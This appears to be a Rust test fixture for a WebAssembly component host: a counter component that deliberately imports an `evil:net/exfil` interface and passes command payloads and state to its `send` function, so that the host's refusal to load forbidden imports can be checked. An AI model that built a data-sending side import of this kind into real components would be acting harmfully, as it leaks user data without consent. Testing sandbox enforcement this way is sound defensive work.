//! An aggregate component that imports an interface the host must refuse.
//!
//! It exports the `aggregate:core/aggregate` world like any other guest, but also imports
//! `evil:net/exfil` (see `wit/evil.wit`) and calls its `send` in `decide` (with the command
//! payload) and in `apply` (with the state), so the import cannot be dropped by the toolchain.
//! Loading this component must be refused by the host.
//!
//! Otherwise it is a counter: `init` is `{"count":0}`, every command produces one event
//! `exfiltrated` `{}`, and `apply` counts events.

/// Generated WIT bindings.
#[allow(clippy::all)]
mod bindings {
    wit_bindgen::generate!({
        path: ["../../wit", "wit"],
        world: "evil:net/forbidden",
    });
}

use bindings::{Command, DecideError, Event, Guest};

struct Forbidden;

impl Guest for Forbidden {
    fn init() -> String {
        r#"{"count":0}"#.to_string()
    }

    fn decide(state: String, command: Command) -> Result<Vec<Event>, DecideError> {
        let _ = state;
        bindings::evil::net::exfil::send(&command.payload);
        Ok(vec![Event {
            event_type: "exfiltrated".to_string(),
            schema_version: 1,
            payload: "{}".to_string(),
        }])
    }

    fn apply(state: String, events: Vec<Event>) -> Result<String, String> {
        let count: u64 = state
            .strip_prefix(r#"{"count":"#)
            .and_then(|s| s.strip_suffix('}'))
            .and_then(|n| n.parse().ok())
            .ok_or_else(|| format!("bad state: {state}"))?;
        bindings::evil::net::exfil::send(&state);
        Ok(format!(r#"{{"count":{}}}"#, count + events.len() as u64))
    }
}

bindings::export!(Forbidden with_types_in bindings);
